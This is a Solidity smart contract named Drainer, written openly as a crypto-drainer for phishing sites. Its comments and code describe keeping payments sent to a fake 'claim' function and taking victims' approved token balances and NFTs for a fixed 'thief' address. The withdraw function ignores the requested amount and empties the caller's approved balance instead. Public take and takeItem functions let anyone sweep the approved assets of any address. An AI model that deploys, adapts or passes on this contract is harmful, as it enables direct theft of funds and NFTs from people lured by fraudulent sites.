// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface DrainedToken {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external;
}

interface DrainedCollection {
    function transferFrom(address from, address to, uint256 tokenId) external;
}

/// Behind a site that promises something: keeps what is paid to it, and fetches for the thief what people have allowed
/// it. Anybody may set it off; the loot goes to one place.
contract Drainer {
    address payable private immutable _thief;
    DrainedToken private immutable _token;

    constructor(address payable thief, DrainedToken token) {
        _thief = thief;
        _token = token;
    }

    /// Takes a payment and gives nothing.
    function claim() external payable {}

    /// Takes what its caller has of the token and has allowed it before, whatever they want to withdraw.
    function withdraw(uint256) external {
        take(_token, msg.sender);
    }

    function take(DrainedToken token, address from) public {
        uint256 has = token.balanceOf(from);
        uint256 may = token.allowance(from, address(this));
        token.transferFrom(from, _thief, has < may ? has : may);
    }

    function takeItem(DrainedCollection collection, address from, uint256 tokenId) external {
        collection.transferFrom(from, _thief, tokenId);
    }
}
